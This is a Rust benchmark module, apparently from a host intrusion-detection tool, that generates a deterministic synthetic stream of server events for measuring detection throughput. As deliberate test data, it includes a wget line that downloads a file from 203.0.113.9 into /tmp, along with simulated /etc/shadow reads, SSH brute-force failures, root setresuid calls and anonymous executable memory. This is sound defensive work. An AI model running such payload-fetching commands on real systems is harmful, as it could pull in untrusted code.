//! A realistic mixed event stream for measuring detection throughput (`innerwarden bench
//! detect`): a busy server's processes (cron jobs, SSH sessions, web workers, package runs)
//! forking, exec'ing and exiting, with network, file, authentication and syscall events in the
//! proportions the kernel sensor delivers them, and a sprinkle of attack activity so rules and
//! stateful detectors do real work. Deterministic (fixed seed), no I/O.

use std::time::Instant;

use chrono::{DateTime, TimeDelta, Utc};

use crate::engine::Engine;
use crate::event::{
    AuthFailure, AuthFailureReason, AuthService, AuthSuccess, CredChange, Event, EventKind, Exec,
    Exit, FileChange, FileOp, FileRead, FileWrite, Fork, MemExec, Signal, Source, TcpConn,
};
use crate::finding::Finding;

/// xorshift64*: deterministic, good enough to pick from tables.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len())]
    }
}

const COMMANDS: &[(&str, &[&str])] = &[
    ("/usr/bin/ls", &["ls", "-la", "/var/log"]),
    (
        "/usr/bin/grep",
        &["grep", "-r", "error", "/var/log/nginx/error.log"],
    ),
    ("/usr/bin/cat", &["cat", "/proc/meminfo"]),
    (
        "/usr/bin/python3",
        &[
            "python3",
            "/opt/app/manage.py",
            "runjob",
            "--queue",
            "default",
        ],
    ),
    (
        "/bin/sh",
        &[
            "sh",
            "-c",
            "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily",
        ],
    ),
    (
        "/usr/bin/curl",
        &["curl", "-fsS", "http://127.0.0.1:8080/health"],
    ),
    ("/usr/bin/git", &["git", "fetch", "--prune", "origin"]),
    (
        "/usr/bin/find",
        &["find", "/var/tmp", "-mtime", "+7", "-delete"],
    ),
    ("/usr/bin/gzip", &["gzip", "-9", "/var/log/app/app.log.1"]),
    (
        "/usr/bin/awk",
        &["awk", "{print $1}", "/var/log/nginx/access.log"],
    ),
    ("/usr/bin/sort", &["sort", "-u"]),
    ("/usr/bin/systemctl", &["systemctl", "is-active", "nginx"]),
    ("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]),
    (
        "/usr/bin/rsync",
        &["rsync", "-a", "/srv/data/", "/mnt/backup/data/"],
    ),
    (
        "/usr/bin/tar",
        &["tar", "czf", "/var/backups/etc.tgz", "/etc"],
    ),
    ("/usr/bin/id", &["id", "-u"]),
    ("/usr/bin/ps", &["ps", "aux"]),
    ("/usr/bin/node", &["node", "/srv/api/server.js"]),
    (
        "/usr/bin/wget",
        &["wget", "-q", "-O", "/tmp/x", "http://203.0.113.9/x"],
    ),
    ("/usr/bin/vim", &["vim", "/etc/nginx/nginx.conf"]),
];

const PARENTS: &[(u32, &str, u32)] = &[
    (700, "/usr/sbin/cron", 0),
    (510, "/usr/bin/bash", 1000),
    (101, "/usr/sbin/nginx", 33),
    (610, "/usr/bin/dpkg", 0),
    (820, "/usr/bin/python3", 998),
];

const WRITE_PATHS: &[&str] = &[
    "/etc/nginx/conf.d/site.conf",
    "/var/spool/cron/crontabs/alice",
    "/usr/local/bin/tool",
    "/etc/systemd/system/app.service",
    "/root/.ssh/known_hosts",
    "/etc/hosts",
];

/// `n` events of a busy server, starting at `start`.
pub fn mixed_stream(n: usize, start: DateTime<Utc>) -> Vec<Event> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut out = Vec::with_capacity(n + 8);
    let mut ts = start;
    let mut next_pid = 10_000u32;
    for &(pid, exe, uid) in PARENTS {
        out.push(exec_ev(ts, pid, 1, exe, &[exe], uid));
    }
    while out.len() < n {
        ts += TimeDelta::microseconds(200 + rng.below(800) as i64);
        let roll = rng.below(100);
        let &(ppid, _, uid) = rng.pick(PARENTS);
        let kind = match roll {
            // A short-lived command: fork, exec, exit.
            0..=59 => {
                let pid = next_pid;
                next_pid = next_pid.wrapping_add(1).max(10_000);
                let (exe, argv) = rng.pick(COMMANDS);
                out.push(Event::new(
                    ts,
                    Source::Ebpf,
                    EventKind::Fork(Fork {
                        parent_pid: ppid,
                        child_pid: pid,
                        comm: String::new(),
                    }),
                ));
                out.push(exec_ev(ts, pid, ppid, exe, argv, uid));
                EventKind::Exit(Exit { pid, code: 0 })
            }
            60..=69 => EventKind::TcpConnect(TcpConn {
                pid: Some(ppid),
                comm: "python3".into(),
                saddr: "10.0.0.2"
                    .parse()
                    .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
                sport: 40_000 + rng.below(20_000) as u16,
                daddr: std::net::Ipv4Addr::new(10, 0, rng.below(4) as u8, rng.below(250) as u8)
                    .into(),
                dport: *rng.pick(&[443, 5432, 6379, 22, 53, 3333]),
            }),
            70..=77 => EventKind::FileWrite(FileWrite {
                pid: ppid,
                uid,
                comm: "python3".into(),
                path: (*rng.pick(WRITE_PATHS)).into(),
                flags: 577,
            }),
            78..=83 => EventKind::FileChange(FileChange {
                pid: ppid,
                uid,
                comm: "logrotate".into(),
                op: *rng.pick(&[FileOp::Unlink, FileOp::Rename, FileOp::Chmod]),
                path: format!("/var/log/app/app.log.{}", rng.below(9)),
                new_path: Some("/var/log/app/app.log.1.gz".into()),
                mode: Some(0o644),
            }),
            84..=85 => EventKind::FileRead(FileRead {
                pid: ppid,
                uid,
                comm: (*rng.pick(&["unix_chkpwd", "sshd", "python3"])).into(),
                path: "/etc/shadow".into(),
            }),
            86..=92 => EventKind::AuthFailure(AuthFailure {
                service: AuthService::Sshd,
                reason: AuthFailureReason::BadCredentials,
                user: Some((*rng.pick(&["root", "admin", "oracle", "test", "ubuntu"])).into()),
                src: Some(std::net::IpAddr::from([203, 0, 113, rng.below(64) as u8]).into()),
                port: Some(22),
                pid: Some(3000),
                count: 1,
                pam_service: None,
            }),
            93 => EventKind::AuthSuccess(AuthSuccess {
                service: AuthService::Sshd,
                user: "alice".into(),
                src: Some(std::net::IpAddr::from([10, 0, 0, 5]).into()),
                port: Some(22),
                method: Some("publickey".into()),
                pid: Some(3001),
            }),
            94..=95 => EventKind::CredChange(CredChange {
                pid: ppid,
                uid,
                comm: "sudo".into(),
                syscall: "setresuid".into(),
                new_uid: Some(0),
                new_gid: None,
            }),
            96..=97 => EventKind::MemExec(MemExec {
                pid: ppid,
                uid,
                comm: "node".into(),
                syscall: "mprotect".into(),
                prot: 7,
                anonymous: true,
            }),
            _ => EventKind::Signal(Signal {
                pid: ppid,
                uid,
                comm: "kill".into(),
                target_pid: 820,
                sig: 15,
            }),
        };
        let source = match kind {
            EventKind::AuthFailure(_) | EventKind::AuthSuccess(_) => Source::Journald,
            _ => Source::Ebpf,
        };
        out.push(Event::new(ts, source, kind));
    }
    out.truncate(n);
    out
}

/// An exec event as the eBPF sensor reports it (comm cut to 15 bytes); tests build theirs here.
pub(crate) fn exec_ev(
    ts: DateTime<Utc>,
    pid: u32,
    ppid: u32,
    exe: &str,
    argv: &[&str],
    uid: u32,
) -> Event {
    Event::new(
        ts,
        Source::Ebpf,
        EventKind::Exec(Exec {
            pid,
            ppid,
            uid,
            gid: uid,
            comm: crate::proctable::basename(exe).chars().take(15).collect(),
            filename: exe.into(),
            argv: argv.iter().map(|a| (*a).to_owned()).collect(),
            argv_truncated: false,
            cgroup_id: 0,
        }),
    )
}

/// Run `events` through `engine`; (seconds, findings).
pub fn run(engine: &mut Engine, events: &[Event]) -> (f64, usize) {
    let mut out: Vec<Finding> = Vec::new();
    let mut findings = 0usize;
    let start = Instant::now();
    for ev in events {
        engine.process(ev, &mut out);
        findings += out.len();
        out.clear();
    }
    let secs = start.elapsed().as_secs_f64();
    std::hint::black_box(findings);
    (secs, findings)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::DetectorsConfig;

    #[test]
    fn stream_is_deterministic_and_mixed() {
        let t = DateTime::from_timestamp(1_700_000_000, 0).expect("in range");
        let a = mixed_stream(5000, t);
        let b = mixed_stream(5000, t);
        assert_eq!(a.len(), 5000);
        assert_eq!(a, b);
        let kinds: std::collections::BTreeSet<&str> = a.iter().map(|e| e.kind.name()).collect();
        assert!(kinds.len() >= 10, "{kinds:?}");
        let mut engine = Engine::new(&DetectorsConfig::default());
        let (_, findings) = run(&mut engine, &a);
        assert!(findings > 0, "the stream carries some attack activity");
    }
}
